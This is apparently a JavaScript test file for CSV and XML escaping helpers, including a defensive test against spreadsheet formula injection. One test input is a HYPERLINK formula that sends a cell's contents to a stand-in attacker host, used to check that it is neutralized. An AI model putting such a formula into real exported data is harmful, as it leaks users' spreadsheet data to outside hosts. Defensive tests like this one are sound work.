import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, csvRow, escapeXml } from './text-formats.js';

test('csvField: quotes only when needed, doubling quotes', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField(' padded'), '" padded"');
  assert.equal(csvField(null), '');
  assert.equal(csvRow(['x', 1, true, null]), 'x,1,true,');
});

test('escapeXml: markup, quotes, whitespace references, and characters XML 1.0 cannot hold', () => {
  assert.equal(escapeXml(`<a href="x" title='y'>&</a>`), '&lt;a href=&quot;x&quot; title=&apos;y&apos;&gt;&amp;&lt;/a&gt;');
  assert.equal(escapeXml('a\tb\nc\rd'), 'a&#9;b&#10;c&#13;d');
  assert.equal(escapeXml('bell\u0007 nul\u0000 lone\uD800 ok😀'), 'bell\uFFFD nul\uFFFD lone\uFFFD ok😀');
});

test('csvField: a text cell a spreadsheet would evaluate starts with a quote (OWASP), numbers stay numbers', () => {
  assert.equal(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  for (const head of ['=', '+', '-', '@']) assert.equal(csvField(`${head}1+1`), `'${head}1+1`);
  assert.equal(csvField('\t=1'), `'\t=1`);
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  assert.equal(csvField('a=1'), 'a=1');
  assert.equal(csvField(-3), '-3');
});
